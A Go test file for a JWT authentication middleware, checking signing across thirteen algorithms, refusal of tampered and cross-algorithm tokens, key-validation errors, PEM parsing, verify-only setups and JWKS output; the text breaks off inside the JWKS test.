package middleware_test

import (
	"bytes"
	"crypto"
	"crypto/ecdh"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"maps"
	"math/big"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"

	"github.com/ginrefresh/ginrefresh/middleware"
)

// Keys are made once, as RSA takes its time.
var (
	rsaKey   = sync.OnceValue(func() *rsa.PrivateKey { return made(rsa.GenerateKey(rand.Reader, 2048)) })
	shortRSA = sync.OnceValue(func() *rsa.PrivateKey { return made(rsa.GenerateKey(rand.Reader, 1024)) })
	p256     = sync.OnceValue(func() *ecdsa.PrivateKey { return made(ecdsa.GenerateKey(elliptic.P256(), rand.Reader)) })
	p384     = sync.OnceValue(func() *ecdsa.PrivateKey { return made(ecdsa.GenerateKey(elliptic.P384(), rand.Reader)) })
	p521     = sync.OnceValue(func() *ecdsa.PrivateKey { return made(ecdsa.GenerateKey(elliptic.P521(), rand.Reader)) })
	edKey    = sync.OnceValue(func() ed25519.PrivateKey { return ed25519.NewKeyFromSeed(bytes.Repeat([]byte{7}, 32)) })
)

func made[T any](value T, err error) T {
	if err != nil {
		panic(err)
	}
	return value
}

// leastSecrets are as short as RFC 7518 §3.2 allows.
var leastSecrets = map[middleware.Algorithm]int{middleware.HS256: 32, middleware.HS384: 48, middleware.HS512: 64}

// signers has a key for each algorithm.
func signers() map[middleware.Algorithm]middleware.Key {
	all := map[middleware.Algorithm]middleware.Key{}
	for alg, key := range map[middleware.Algorithm]any{
		middleware.RS256: rsaKey(), middleware.RS384: rsaKey(), middleware.RS512: rsaKey(),
		middleware.PS256: rsaKey(), middleware.PS384: rsaKey(), middleware.PS512: rsaKey(),
		middleware.ES256: p256(), middleware.ES384: p384(), middleware.ES512: p521(), middleware.EdDSA: edKey(),
	} {
		all[alg] = middleware.Key{Algorithm: alg, Key: key}
	}
	for alg, size := range leastSecrets {
		all[alg] = middleware.Key{Algorithm: alg, Key: bytes.Repeat([]byte("s"), size)}
	}
	return all
}

// public is the key without what signs.
func public(k middleware.Key) middleware.Key {
	k.Key = k.Key.(crypto.Signer).Public()
	return k
}

// headerOf reads a token's header.
func headerOf(t testing.TB, text string) map[string]any {
	t.Helper()
	head, _, _ := strings.Cut(text, ".")
	var fields map[string]any
	if object, err := base64.RawURLEncoding.DecodeString(head); err != nil || json.Unmarshal(object, &fields) != nil {
		t.Fatalf("the header is %q, %v", head, err)
	}
	return fields
}

func TestEveryAlgorithm(t *testing.T) {
	all := signers()
	if len(all) != 13 {
		t.Fatalf("%d algorithms", len(all))
	}
	for alg, key := range all {
		for mode, inMode := range modes {
			t.Run(string(alg)+", "+mode, func(t *testing.T) {
				auth := newAuth(t, inMode, keys(key))
				_, isSecret := key.Key.([]byte)
				tokens := begin(t, auth, middleware.Identity{Claims: hard})
				for range 2 {
					verify(t, auth, tokens.AccessToken)
					for _, text := range []string{tokens.AccessToken, renewable(tokens)} {
						head := headerOf(t, text)
						if kid, _ := head["kid"].(string); head["alg"] != string(alg) || (len(kid) == 43) == isSecret {
							t.Errorf("the header is %v", head)
						}
						verifiedByGolangJWT(t, text, key)
						for i, segment := range strings.Split(text, ".") {
							changed := strings.Replace(text, segment, flipped(segment), 1)
							verifies(t, fmt.Sprintf("R1: with segment %d changed", i), auth, changed, middleware.CodeTokenInvalid)
							refreshes(t, fmt.Sprintf("R1: with segment %d changed", i), auth, changed, middleware.CodeTokenInvalid)
						}
					}
					tokens = renew(t, auth, tokens)
				}
			})
		}
	}
}

// flipped changes a character in the middle.
func flipped(segment string) string {
	b := []byte(segment)
	if i := len(b) / 2; b[i] == 'A' {
		b[i] = 'B'
	} else {
		b[i] = 'A'
	}
	return string(b)
}

func verifiedByGolangJWT(t *testing.T, text string, key middleware.Key) {
	t.Helper()
	opening := key.Key
	if signer, ok := opening.(crypto.Signer); ok {
		opening = signer.Public()
	}
	_, err := jwt.Parse(text, func(*jwt.Token) (any, error) { return opening, nil }, jwt.WithJSONNumber(),
		jwt.WithValidMethods([]string{string(key.Algorithm)}), jwt.WithStrictDecoding(), jwt.WithExpirationRequired(), jwt.WithSubject("admin"))
	if err != nil {
		t.Errorf("golang-jwt refuses our %s token: %v", key.Algorithm, err)
	}
}

// Each algorithm's token is refused by all the others, also where they have the same key.
func TestR1AlgorithmsAreApart(t *testing.T) {
	all := signers()
	texts := map[middleware.Algorithm]string{}
	for alg, key := range all {
		key.ID = "one"
		texts[alg] = login(t, newAuth(t, keys(key)))
	}
	for alg, key := range all {
		key.ID = "one"
		auth := newAuth(t, keys(key))
		for other, text := range texts {
			want := middleware.CodeTokenInvalid
			if other == alg {
				want = ""
			}
			verifies(t, fmt.Sprintf("R1: a token of %s where %s is expected", other, alg), auth, text, want)
		}
	}
}

// Every mistake in a key is refused by New and by SetKeys, in words that help and without the key.
func TestR15KeyMistakes(t *testing.T) {
	type algorithm = middleware.Algorithm
	key := func(alg algorithm, key any) []middleware.Key { return []middleware.Key{{Algorithm: alg, Key: key}} }
	offCurve := &ecdsa.PublicKey{Curve: elliptic.P256(), X: big.NewInt(1), Y: big.NewInt(1)}
	table := map[string]struct {
		keys  []middleware.Key
		words []string
	}{
		"RSA of 1024 bits":                  {key(middleware.RS256, shortRSA()), []string{"RS256", "2048", "1024"}},
		"RSA of 1024 bits, PS":              {key(middleware.PS512, shortRSA()), []string{"PS512", "2048", "1024"}},
		"RSA of 1024 bits, public":          {key(middleware.RS512, shortRSA().Public()), []string{"RS512", "2048", "1024"}},
		"RSA by value":                      {key(middleware.RS256, *rsaKey()), []string{"RS256", "*rsa.PrivateKey"}},
		"RSA nil":                           {key(middleware.RS256, (*rsa.PrivateKey)(nil)), []string{"RS256"}},
		"RSA public nil":                    {key(middleware.PS256, (*rsa.PublicKey)(nil)), []string{"PS256"}},
		"RSA zero":                          {key(middleware.RS256, &rsa.PrivateKey{}), []string{"RSA"}},
		"RSA public zero":                   {key(middleware.RS256, &rsa.PublicKey{}), []string{"RS256"}},
		"RSA public with e 1":               {key(middleware.RS256, &rsa.PublicKey{N: rsaKey().N, E: 1}), []string{"RSA"}},
		"RSA public with an even e":         {key(middleware.RS256, &rsa.PublicKey{N: rsaKey().N, E: 65536}), []string{"RSA"}},
		"RSA with another exponent":         {key(middleware.RS256, brokenRSA()), []string{"RSA"}},
		"an RSA key for ES256":              {key(middleware.ES256, rsaKey()), []string{"ES256", "*ecdsa.PrivateKey", "*rsa.PrivateKey"}},
		"an RSA key for HS256":              {key(middleware.HS256, rsaKey()), []string{"HS256", "[]byte"}},
		"an RSA public key for HS256":       {key(middleware.HS256, rsaKey().Public()), []string{"HS256", "[]byte"}},
		"PEM for RS256":                     {key(middleware.RS256, pemOf("PUBLIC KEY", made(x509.MarshalPKIXPublicKey(rsaKey().Public())))), []string{"RS256", "*rsa"}},
		"a secret for RS256":                {key(middleware.RS256, secret), []string{"RS256", "*rsa", "[]uint8"}},
		"a secret for EdDSA":                {key(middleware.EdDSA, secret), []string{"EdDSA", "ed25519"}},
		"an Ed25519 key for HS256":          {key(middleware.HS256, edKey()), []string{"HS256", "[]byte"}},
		"P-384 for ES256":                   {key(middleware.ES256, p384()), []string{"ES256", "P-256", "P-384"}},
		"P-256 for ES384":                   {key(middleware.ES384, p256()), []string{"ES384", "P-384", "P-256"}},
		"P-521 for ES384, public":           {key(middleware.ES384, p521().Public()), []string{"ES384", "P-384", "P-521"}},
		"P-256 for ES512":                   {key(middleware.ES512, p256()), []string{"ES512", "P-521", "P-256"}},
		"P-224 for ES256":                   {key(middleware.ES256, made(ecdsa.GenerateKey(elliptic.P224(), rand.Reader))), []string{"ES256", "P-256", "P-224"}},
		"EC nil":                            {key(middleware.ES256, (*ecdsa.PrivateKey)(nil)), []string{"ES256"}},
		"EC zero":                           {key(middleware.ES256, &ecdsa.PrivateKey{}), []string{"ES256"}},
		"EC without a scalar":               {key(middleware.ES256, &ecdsa.PrivateKey{PublicKey: p256().PublicKey}), []string{"ES256"}},
		"EC public nil":                     {key(middleware.ES256, (*ecdsa.PublicKey)(nil)), []string{"ES256"}},
		"EC public zero":                    {key(middleware.ES256, &ecdsa.PublicKey{}), []string{"ES256"}},
		"EC public without a point":         {key(middleware.ES256, &ecdsa.PublicKey{Curve: elliptic.P256()}), []string{"ES256"}},
		"EC off the curve":                  {key(middleware.ES256, offCurve), []string{"curve"}},
		"EC with another's public key":      {key(middleware.ES256, &ecdsa.PrivateKey{PublicKey: made(ecdsa.GenerateKey(elliptic.P256(), rand.Reader)).PublicKey, D: p256().D}), []string{"consistent"}},
		"Ed25519 nil":                       {key(middleware.EdDSA, ed25519.PrivateKey(nil)), []string{"EdDSA", "ed25519"}},
		"Ed25519 public nil":                {key(middleware.EdDSA, ed25519.PublicKey(nil)), []string{"EdDSA", "ed25519"}},
		"Ed25519 cut":                       {key(middleware.EdDSA, edKey()[:32]), []string{"EdDSA", "ed25519"}},
		"Ed25519 with another's public key": {key(middleware.EdDSA, slices.Concat(edKey()[:32:32], ed25519.PrivateKey(bytes.Repeat([]byte{1}, 32)))), []string{"consistent"}},
		"EC with a scalar of zero":          {key(middleware.ES256, &ecdsa.PrivateKey{PublicKey: p256().PublicKey, D: new(big.Int)}), []string{"consistent"}},
		"Ed25519 by pointer":                {key(middleware.EdDSA, new(ed25519.PrivateKey)), []string{"EdDSA", "ed25519"}},
		"an X25519 key":                     {key(middleware.EdDSA, made(ecdh.X25519().GenerateKey(rand.Reader))), []string{"EdDSA", "ed25519"}},
		"nil":                               {key(middleware.RS256, nil), []string{"RS256"}},
		"unknown algorithm":                 {key("RS128", rsaKey()), []string{`"RS128"`}},
		"ES256K":                            {key("ES256K", p256()), []string{`"ES256K"`}},
		"two with one ID":                   {[]middleware.Key{{ID: "a", Algorithm: middleware.RS256, Key: rsaKey()}, {ID: "a", Algorithm: middleware.ES256, Key: p256()}}, []string{"Keys[1]", `"a"`, "own"}},
		"one key twice":                     {[]middleware.Key{{Algorithm: middleware.RS256, Key: rsaKey()}, {Algorithm: middleware.PS256, Key: rsaKey()}}, []string{"Keys[1]", "own"}},
		"public first, then private":        {[]middleware.Key{public(signers()[middleware.ES256]), signers()[middleware.EdDSA]}, []string{"Keys[1]", "signs first"}},
		"public first, then a secret":       {[]middleware.Key{public(signers()[middleware.ES256]), hs256("", secret)}, []string{"Keys[1]", "signs first"}},
		"a second key that is too short":    {[]middleware.Key{hs256("a", secret), {ID: "b", Algorithm: middleware.HS512, Key: secret}}, []string{"Keys[1]", "HS512", "64", "33"}},
	}
	for alg, size := range leastSecrets {
		short := bytes.Repeat([]byte("s"), size-1)
		table[fmt.Sprint(alg, " a byte short")] = struct {
			keys  []middleware.Key
			words []string
		}{key(alg, short), []string{string(alg), strconv.Itoa(size), strconv.Itoa(size - 1)}}
	}
	auth := newAuth(t)
	text := login(t, auth)
	for name, row := range table {
		t.Run(name, func(t *testing.T) {
			_, err := middleware.New(newConfig(t, authenticating(nil), keys(row.keys...)))
			for what, err := range map[string]error{"New": err, "SetKeys": auth.SetKeys(row.keys)} {
				if err == nil {
					t.Errorf("R15: %s takes it", what)
					continue
				}
				told := fmt.Sprint(chain(err))
				for _, word := range append(row.words, "middleware: ", "Keys[") {
					if !strings.Contains(err.Error(), word) {
						t.Errorf("R15: %s says %q, want %q in it", what, err, word)
					}
				}
				if strings.Contains(told, "sssss") || strings.Contains(told, string(secret)) || strings.Contains(told, "BEGIN") {
					t.Errorf("R15: %s shows the key: %s", what, told)
				}
			}
			verify(t, auth, text)
		})
	}
	verify(t, auth, login(t, auth)) // a mistake changes nothing: it signs as before
	if head := headerOf(t, login(t, auth)); head["alg"] != "HS256" {
		t.Errorf("after refused keys the header is %v", head)
	}
}

// brokenRSA is a private key that belongs to another exponent.
func brokenRSA() *rsa.PrivateKey {
	k := *rsaKey()
	k.D = new(big.Int).Add(k.D, big.NewInt(2))
	k.Precomputed = rsa.PrecomputedValues{}
	return &k
}

// RFC 7518 §3.5: the salt is as long as the hash, also where somebody else signs.
func TestR1PSSalt(t *testing.T) {
	for alg, hash := range map[middleware.Algorithm]crypto.Hash{middleware.PS256: crypto.SHA256, middleware.PS384: crypto.SHA384, middleware.PS512: crypto.SHA512} {
		auth := newAuth(t, keys(middleware.Key{ID: "a", Algorithm: alg, Key: rsaKey()}))
		genuine := login(t, auth)
		signed, _, _ := cutLast(genuine, ".")
		for _, salt := range []int{0, 1, 20, hash.Size() - 1, hash.Size(), hash.Size() + 1, rsa.PSSSaltLengthAuto} {
			digest := hash.New()
			digest.Write([]byte(signed))
			signature, err := rsa.SignPSS(rand.Reader, rsaKey(), hash, digest.Sum(nil), &rsa.PSSOptions{SaltLength: salt})
			if err != nil {
				t.Fatal(err)
			}
			want := middleware.CodeTokenInvalid
			if salt == hash.Size() {
				want = ""
			}
			verifies(t, fmt.Sprintf("R1: %s with a salt of %d", alg, salt), auth, signed+"."+segment(string(signature)), want)
		}
	}
}

func pemOf(kind string, der []byte) []byte {
	return pem.EncodeToMemory(&pem.Block{Type: kind, Bytes: der})
}

func TestParsePEM(t *testing.T) {
	pkcs8 := func(key any) []byte { return pemOf("PRIVATE KEY", made(x509.MarshalPKCS8PrivateKey(key))) }
	spki := func(key any) []byte { return pemOf("PUBLIC KEY", made(x509.MarshalPKIXPublicKey(key))) }
	sec1 := pemOf("EC PRIVATE KEY", made(x509.MarshalECPrivateKey(p256())))
	parameters := []byte("-----BEGIN EC PARAMETERS-----\nBggqhkjOPQMBBw==\n-----END EC PARAMETERS-----\n")
	for name, row := range map[string]struct {
		text []byte
		alg  middleware.Algorithm
		key  any
	}{
		"PKCS #1":                  {pemOf("RSA PRIVATE KEY", x509.MarshalPKCS1PrivateKey(rsaKey())), middleware.RS256, rsaKey()},
		"PKCS #1, public":          {pemOf("RSA PUBLIC KEY", x509.MarshalPKCS1PublicKey(&rsaKey().PublicKey)), middleware.RS256, rsaKey().Public()},
		"PKCS #8 of RSA":           {pkcs8(rsaKey()), middleware.PS384, rsaKey()},
		"PKCS #8 of P-256":         {pkcs8(p256()), middleware.ES256, p256()},
		"PKCS #8 of P-521":         {pkcs8(p521()), middleware.ES512, p521()},
		"PKCS #8 of Ed25519":       {pkcs8(edKey()), middleware.EdDSA, edKey()},
		"SEC 1":                    {sec1, middleware.ES256, p256()},
		"SEC 1 with EC PARAMETERS": {slices.Concat(parameters, sec1), middleware.ES256, p256()},
		"SEC 1, parameters behind": {slices.Concat(sec1, parameters), middleware.ES256, p256()},
		"SPKI of RSA":              {spki(rsaKey().Public()), middleware.RS512, rsaKey().Public()},
		"SPKI of P-384":            {spki(p384().Public()), middleware.ES384, p384().Public()},
		"SPKI of Ed25519":          {spki(edKey().Public()), middleware.EdDSA, edKey().Public()},
		"CRLF":                     {bytes.ReplaceAll(sec1, []byte("\n"), []byte("\r\n")), middleware.ES256, p256()},
		"spaces around":            {slices.Concat([]byte("\n  \n"), sec1, []byte("\n\n \t")), middleware.ES256, p256()},
		"spaces on the first line": {slices.Concat([]byte("  "), sec1), middleware.ES256, p256()},
		"a comment before":         {slices.Concat([]byte("# our key\n"), sec1), middleware.ES256, p256()},
	} {
		t.Run(name, func(t *testing.T) {
			key, err := middleware.ParsePEM(row.text)
			if err != nil {
				t.Fatal(err)
			}
			if !equalKeys(row.key, key) {
				t.Fatalf("ParsePEM gives another %T", key)
			}
			auth := newAuth(t, authenticating(nil), keys(middleware.Key{Algorithm: row.alg, Key: key}))
			signer := signers()[row.alg]
			verify(t, auth, login(t, newAuth(t, keys(signer))))
		})
	}
}

func equalKeys(a, b any) bool {
	switch a := a.(type) {
	case interface{ Equal(crypto.PrivateKey) bool }:
		return a.Equal(b)
	case interface{ Equal(crypto.PublicKey) bool }:
		return a.Equal(b)
	}
	return false
}

func TestParsePEMRefuses(t *testing.T) {
	sec1 := pemOf("EC PRIVATE KEY", made(x509.MarshalECPrivateKey(p256())))
	ed := pemOf("PRIVATE KEY", made(x509.MarshalPKCS8PrivateKey(edKey())))
	der := made(x509.MarshalPKCS8PrivateKey(p256()))
	legacy := pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: der, Headers: map[string]string{
		"Proc-Type": "4,ENCRYPTED", "DEK-Info": "AES-128-CBC,00112233445566778899AABBCCDDEEFF",
	}})
	template := &x509.Certificate{SerialNumber: big.NewInt(1)}
	certificate := pemOf("CERTIFICATE", made(x509.CreateCertificate(rand.Reader, template, template, p256().Public(), p256())))
	for name, row := range map[string]struct {
		text []byte
		word string
	}{
		"encrypted PKCS #8":       {encryptedPKCS8, "encrypted"},
		"encrypted, legacy":       {legacy, "encrypted"},
		"certificate":             {certificate, "CERTIFICATE"},
		"key and certificate":     {slices.Concat(sec1, certificate), "more than one"},
		"two keys":                {slices.Concat(sec1, ed), "more than one"},
		"one key twice":           {slices.Concat(sec1, sec1), "more than one"},
		"parameters alone":        {[]byte("-----BEGIN EC PARAMETERS-----\nBggqhkjOPQMBBw==\n-----END EC PARAMETERS-----\n"), "no PEM"},
		"PKCS #8 named PKCS #1":   {pemOf("RSA PRIVATE KEY", der), "does not contain a valid key"},
		"PKCS #8 named SPKI":      {pemOf("PUBLIC KEY", der), "does not contain a valid key"},
		"SEC 1 named PKCS #8":     {pemOf("PRIVATE KEY", made(x509.MarshalECPrivateKey(p256()))), "does not contain a valid key"},
		"OpenSSH":                 {pemOf("OPENSSH PRIVATE KEY", der), "OPENSSH"},
		"empty block":             {pemOf("PRIVATE KEY", nil), "does not contain a valid key"},
		"garbage in a block":      {pemOf("PRIVATE KEY", []byte("a secret that nobody must see")), "does not contain a valid key"},
		"cut":                     {sec1[:len(sec1)/2], "no PEM"},
		"the end cut":             {sec1[:len(sec1)-10], "no PEM"},
		"garbage":                 {[]byte("a secret that nobody must see"), "no PEM"},
		"DER":                     {der, "no PEM"},
		"JWK":                     {[]byte(`{"kty":"oct","k":"a secret that nobody must see"}`), "no PEM"},
		"empty":                   {nil, "no PEM"},
		"base64 without an armor": {[]byte(base64.StdEncoding.EncodeToString(der)), "no PEM"},
	} {
		key, err := middleware.ParsePEM(row.text)
		if err == nil || key != nil {
			t.Errorf("%s: ParsePEM gives a %T, %v", name, key, err)
			continue
		}
		if !strings.HasPrefix(err.Error(), "middleware: ") || !strings.Contains(err.Error(), row.word) {
			t.Errorf("%s: %q, want %q in it", name, err, row.word)
		}
		told := fmt.Sprint(chain(err))
		for line := range strings.Lines(string(row.text)) {
			if line = strings.TrimSpace(line); len(line) > 10 && !strings.HasPrefix(line, "-----") && strings.Contains(told, line) {
				t.Errorf("%s: the error shows the content: %s", name, told)
			}
		}
		for block, rest := pem.Decode(row.text); block != nil; block, rest = pem.Decode(rest) {
			if digits := hex.EncodeToString(block.Bytes); digits != "" && strings.Contains(strings.ToLower(told), digits) {
				t.Errorf("%s: the error shows the content: %s", name, told)
			}
		}
		if strings.Contains(told, "nobody must see") || strings.Contains(told, "AABBCC") {
			t.Errorf("%s: the error shows the content: %s", name, told)
		}
	}
}

// encryptedPKCS8 is what `openssl genpkey -algorithm ed25519 -aes256` writes. Its passphrase is "test".
var encryptedPKCS8 = []byte(`-----BEGIN ENCRYPTED PRIVATE KEY-----
MIGbMFcGCSqGSIb3DQEFDTBKMCkGCSqGSIb3DQEFDDAcBAhEwkI8FcDx7gICCAAw
DAYIKoZIhvcNAgkFADAdBglghkgBZQMEASoEELwqHkf40Ug1whcKUIBSY+AEQP4R
W9ko/gGA1d1GTJavXufaLsvmUnvJDarhwQ5fA9rIF2NMwe1Ef3NoTHKxBmjXKX9+
MwePpdetKcK5D/6+lO0=
-----END ENCRYPTED PRIVATE KEY-----
`)

// issuer is an Auth that signs with the key, and verifier one that has its public half and shares the store.
func issuerAndVerifier(t *testing.T, changes ...change) (issuer, verifier *middleware.Auth) {
	t.Helper()
	memory := newMemory(t)
	shared := append([]change{func(c *middleware.Config) { c.Store = memory }}, changes...)
	key := signers()[middleware.ES256]
	issuer = newAuth(t, append(shared, keys(key))...)
	return issuer, newAuth(t, append(shared, authenticating(nil), keys(public(key)))...)
}

func TestVerifyOnly(t *testing.T) {
	for mode, inMode := range modes {
		t.Run(mode, func(t *testing.T) {
			issuer, verifier := issuerAndVerifier(t, inMode, noGrace)
			s := listen(t, sharedRoutes(verifier))
			tokens := begin(t, issuer, middleware.Identity{})
			s.send("GET", "/required", bearer(tokens.AccessToken)).passed(t, "admin")

			if _, err := verifier.Issue(t.Context(), middleware.Identity{Subject: "admin"}); err == nil || !strings.Contains(err.Error(), "only public keys") {
				t.Errorf("Issue: %v, want an error that says why", err)
			}
			if _, err := verifier.Refresh(t.Context(), renewable(tokens)); err == nil || !strings.Contains(err.Error(), "only public keys") {
				t.Errorf("Refresh: %v, want an error that says why", err)
			}
			for _, path := range []string{"/login?user=admin", "/refresh"} {
				r := s.send("POST", path, bearer(renewable(tokens)))
				r.refused(t, middleware.CodeServerError)
			}
			next := renew(t, issuer, tokens) // R10: nothing was used up
			s.send("GET", "/required", bearer(next.AccessToken)).passed(t, "admin")

			if err := issuer.Logout(t.Context(), next.AccessToken); err != nil {
				t.Fatal(err)
			}
			s.send("GET", "/required", bearer(next.AccessToken)).refused(t, middleware.CodeTokenRevoked)
			other := begin(t, issuer, middleware.Identity{})
			s.send("POST", "/logout", bearer(other.AccessToken)).accepted(t, "/logout") // a verifier may revoke
			verifies(t, "R11: logged out at the verifier", issuer, other.AccessToken, middleware.CodeTokenRevoked)
		})
	}
}

func TestVerifyOnlyConfiguration(t *testing.T) {
	es, ed := signers()[middleware.ES256], signers()[middleware.EdDSA]
	blind := func(c *middleware.Config) { c.Store, c.DangerouslyIgnoreRevocation = nil, true }
	reload := reloading(new(reloader))
	for name, row := range map[string]struct {
		changes []change
		words   []string // none: it is allowed
	}{
		"public keys and a store":      {[]change{authenticating(nil), keys(public(es), public(ed))}, nil},
		"public keys, blind":           {[]change{authenticating(nil), keys(public(es)), blind}, nil},
		"private, then public":         {[]change{keys(es, public(ed))}, nil},
		"private, a secret, public":    {[]change{keys(es, hs256("old", secret), public(ed))}, nil},
		"public with Authenticate":     {[]change{keys(public(es))}, []string{"Authenticate", "verify-only"}},
		"public with Reload":           {[]change{authenticating(nil), keys(public(es)), reload}, []string{"Reload", "verify-only"}},
		"public with both":             {[]change{keys(public(es)), reload}, []string{"Authenticate", "Reload"}},
		"public without a store":       {[]change{authenticating(nil), keys(public(es)), func(c *middleware.Config) { c.Store = nil }}, []string{"Store is missing"}},
		"private and blind":            {[]change{keys(es), blind}, []string{"DangerouslyIgnoreRevocation", "public keys"}},
		"a secret and blind":           {[]change{blind}, []string{"DangerouslyIgnoreRevocation", "public keys"}},
		"blind, and yet with a store":  {[]change{authenticating(nil), keys(public(es)), func(c *middleware.Config) { c.DangerouslyIgnoreRevocation = true }}, []string{"DangerouslyIgnoreRevocation", "Store"}},
		"private, blind, with a store": {[]change{keys(es), func(c *middleware.Config) { c.DangerouslyIgnoreRevocation = true }}, []string{"DangerouslyIgnoreRevocation"}},
	} {
		_, err := middleware.New(newConfig(t, row.changes...))
		if (err == nil) != (row.words == nil) {
			t.Errorf("R15: %s: %v", name, err)
		}
		for _, word := range row.words {
			if err != nil && !strings.Contains(err.Error(), word) {
				t.Errorf("R15: %s: %q, want %q in it", name, err, word)
			}
		}
	}
}

// What DangerouslyIgnoreRevocation costs: the verifier hears of no logout. And it can revoke nothing.
func TestBlindVerifier(t *testing.T) {
	key := signers()[middleware.EdDSA]
	issuer := newAuth(t, keys(key))
	blind := newAuth(t, authenticating(nil), keys(public(key)), func(c *middleware.Config) { c.Store, c.DangerouslyIgnoreRevocation = nil, true })
	s := listen(t, sharedRoutes(blind))
	text := login(t, issuer)
	if err := issuer.Logout(t.Context(), text); err != nil {
		t.Fatal(err)
	}
	s.send("GET", "/required", bearer(text)).passed(t, "admin")
	s.send("GET", "/required", bearer(text+"A")).refused(t, middleware.CodeTokenInvalid)
	for _, path := range []string{"/logout", "/logout/all", "/refresh"} {
		s.send("POST", path, bearer(text)).refused(t, middleware.CodeServerError)
	}
	fails(t, "RevokeSubject", blind.RevokeSubject(t.Context(), "admin"), middleware.CodeServerError)
	fails(t, "RevokeSession", blind.RevokeSession(t.Context(), "sid"), middleware.CodeServerError)
	if err := blind.SetKeys([]middleware.Key{key}); err == nil {
		t.Error("R15: an Auth that ignores revocations takes keys that sign")
	}
	if tokens, err := blind.Issue(t.Context(), middleware.Identity{Subject: "admin"}); err == nil {
		t.Errorf("an Auth that ignores revocations issues %v", tokens)
	}
}

// jwk is a member of a JWK Set as another party reads it.
type jwk map[string]string

// published are the keys at the JWKS endpoint.
func published(t *testing.T, auth *middleware.Auth) []jwk {
	t.Helper()
	r := listen(t, sharedRoutes(auth)).send("GET", "/jwks.json")
	var set struct{ Keys []jwk }
	if err := json.Unmarshal([]byte(r.body), &set); err != nil || r.status != http.StatusOK || r.header.Get("Content-Type") != "application/jwk-set+json" ||
		r.header.Get("Cache-Control") != "public, max-age=300" {
		t.Fatalf("JWKS: %d %s %v %v", r.status, r.body, r.header, err)
	}
	if set.Keys == nil {
		t.Fatalf("JWKS without keys: %s", r.body)
	}
	return set.Keys
}

func TestThumbprints(t *testing.T) {
	number := func(s string) *big.Int { return new(big.Int).SetBytes(made(base64.RawURLEncoding.DecodeString(s))) }
	for name, row := range map[string]struct {
		key  middleware.Key
		want string
	}{
		"RFC 7638 §3.1": {middleware.Key{Algorithm: middleware.RS256, Key: &rsa.PublicKey{E: 65537, N: number(
			"0vx7agoebGcQSuuPiLJXZptN9nndrQmbXEps2aiAFbWhM78LhWx4cbbfAAtVT86zwu1RK7aPFFxuhDR1L6tSoc_BJECPebWKRXjBZCiFV4n3oknjhMstn64tZ_2W" +
				"-5JsGY4Hc5n9yBXArwl93lqt7_RN5w6Cf0h4QyQ5v-65YGjQR0_FDW2QvzqY368QQMicAtaSqzs8KJZgnYb9c7d0zgdAZHzu6qMQvRL5hajrn1n91CbOpbIS" +
				"D08qNLyrdkt-bFTWhAI4vMQFh6WeZu0fM4lFd2NcRwr3XPksINHaQ-G_xBniIqbw0Ls1jF44-csFCur-kEgU8awapJzKnqDKgw")}},
			"NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs"},
		"RFC 8037 A.3": {middleware.Key{Algorithm: middleware.EdDSA, Key: ed25519.PublicKey(made(base64.RawURLEncoding.DecodeString("11qYAYKxCrfVS_7TyWQHOg7hcvPapiMlrwIaaPcHURo")))},
			"kPrK_qmxVWaYVA9wwBF6Iuo3vVzz7TxHCTwXBygrS4k"},
	} {
		listed := published(t, newAuth(t, authenticating(nil), keys(row.key)))
		if len(listed) != 1 || listed[0]["kid"] != row.want {
			t.Errorf("%s: %v, want the kid %s", name, listed, row.want)
		}
	}
	// A public key and its private one have the same, and what the application says goes before it.
	for alg, key := range signers() {
		if _, isSecret := key.Key.([]byte); isSecret {
			continue
		}
		whole, half := published(t, newAuth(t, keys(key)))[0], published(t, newAuth(t, authenticating(nil), keys(public(key))))[0]
		if !maps.Equal(whole, half) {
			t.Errorf("%s: the private key is published as %v, the public one as %v", alg, whole, half)
		}
		key.ID = `my "key"`
		if got := published(t, newAuth(t, keys(key)))[0]["kid"]; got != key.ID {
			t.Errorf("%s: the kid is %q", alg, got)
		}
	}
}

// rebuilt is a key made of nothing but its JWK, as another party would do it (RFC 7518 §6, RFC 8037 §2).
func (k jwk) rebuilt(t *testing.T) any {
	t.Helper()
	octets := func(name string, size int) []byte {
		b, err := base64.RawURLEncoding.DecodeString(k[name])
		if err != nil || len(b) == 0 || size > 0 && len(b) != size {
			t.Fatalf("%s of the JWK is %q, %v", name, k[name], err)
		}
		return b
	}
	curves := map[string]elliptic.Curve{"P-256": elliptic.P256(), "P-384": elliptic.P384(), "P-521": elliptic.P521()}
	switch k["kty"] {
	case "RSA":
		return &rsa.PublicKey{N: new(big.Int).SetBytes(octets("n", 256)), E: int(new(big.Int).SetBytes(octets("e", 3)).Int64())}
	case "EC":
		curve := curves[k["crv"]]
		size := (curve.Params().BitSize + 7) / 8 // RFC 7518 §6.2.1.2: with leading zeros
		return made(ecdsa.ParseUncompressedPublicKey(curve, slices.Concat([]byte{4}, octets("x", size), octets("y", size))))
	case "OKP":
		return ed25519.PublicKey(octets("x", ed25519.PublicKeySize))
	}
	t.Fatalf("a JWK of the kind %q", k["kty"])
	return nil
}

// Another party verifies our tokens from the JWKS alone; and the JWKS never has more than that needs.
func TestJWKS(t *testing.T) {
	members := map[string][]string{"RSA": {"alg", "e", "kid", "kty", "n", "use"}, "EC": {"alg", "crv", "kid", "kty", "use", "x", "y"}, "OKP": {"alg", "crv", "kid", "kty", "use", "x"}}
	var all []middleware.Key
	for alg, key := range signers() {
		key.ID = "key of " + string(alg)
		all = append(all, key)
	}
	for i, key := range all {
		auth := newAuth(t, keys(append([]middleware.Key{key}, slices.Delete(slices.Clone(all), i, i+1)...)...))
		text := login(t, auth)
		listed := published(t, auth)
		if len(listed) != 10 { // not the secrets
			t.Fatalf("%d keys are published", len(listed))
		}
		for _, k := range listed {
			if got := slices.Sorted(maps.Keys(k)); !slices.Equal(got, members[k["kty"]]) || k["use"] != "sig" {
				t.Errorf("the JWK %s has %v", k["kid"], got)
			}
		}
		_, err := jwt.Parse(text, func(token *jwt.Token) (any, error) {
			for _, k := range listed {
				if k["kid"] == token.Header["kid"] && k["alg"] == token.Header["alg"] {
					return k.rebuilt(t), nil
				}
			}
